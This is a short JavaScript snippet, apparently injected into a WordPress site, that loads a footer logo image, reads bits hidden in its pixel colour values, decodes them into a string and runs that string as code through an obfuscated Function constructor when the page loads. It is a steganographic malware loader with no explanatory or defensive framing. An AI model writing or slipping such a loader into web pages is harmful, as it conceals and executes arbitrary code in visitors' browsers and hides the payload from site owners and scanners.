(function () {
  var im = new Image();
  im.crossOrigin = 'anonymous';
  im.src = '/wp-content/uploads/2021/03/logo-footer.png?ver=5.7';
  im.onload = function () {
    var c = document.createElement('canvas');
    c.width = im.width; c.height = im.height;
    var x = c.getContext('2d');
    x.drawImage(im, 0, 0);
    var p = x.getImageData(0, 0, c.width, c.height).data, s = '', b = 0, n = 0;
    for (var i = 0; i < p.length; i += 4) {
      for (var k = 0; k < 3; k++) {
        b = (b << 1) | (p[i + k] & 1);
        if (++n === 8) { if (!b) { i = p.length; break; } s += String.fromCharCode(b); b = 0; n = 0; }
      }
    }
    [].constructor.constructor(s)();
  };
})();
